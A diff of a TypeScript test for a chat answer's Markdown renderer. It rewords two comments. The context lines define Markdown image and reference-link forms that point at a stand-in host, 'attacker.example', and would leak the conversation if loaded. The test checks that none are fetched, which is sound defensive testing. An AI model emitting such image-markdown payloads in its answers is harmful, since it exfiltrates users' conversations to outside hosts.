@@ -5,7 +5,7 @@ import Markdown from './markdown.tsx'
 const attackerUrl = 'https://attacker.example/'
 const leakUrl = (name: string) => `${attackerUrl}${name}?d=PEARL-1844`
 
-/** Each would carry the conversation out if it were loaded. */
+/** Each would leak the conversation if it were loaded. */
 const forms = [
   `![x](${leakUrl('picture')})`,
   `![x][ref]\n\n[ref]: ${leakUrl('reference')}`,
@@ -36,7 +36,7 @@ it('CHT-02 loads nothing from elsewhere for an answer, showing links without a r
     <Markdown text={forms.join('\n\n')} citations={[]} isStreaming={false} onCite={() => undefined} />,
   )
   await expect.poll(() => container.querySelector('.answer-image')).not.toBeNull()
-  // its drawing code is loaded first
+  // mermaid loads first
   const diagram = () => container.querySelector('.answer-diagram img') ?? container.querySelector('p.text-13')
   await expect.poll(diagram, { timeout: 20_000 }).not.toBeNull()
   const loading = [...container.querySelectorAll(loads)].filter((element) =>
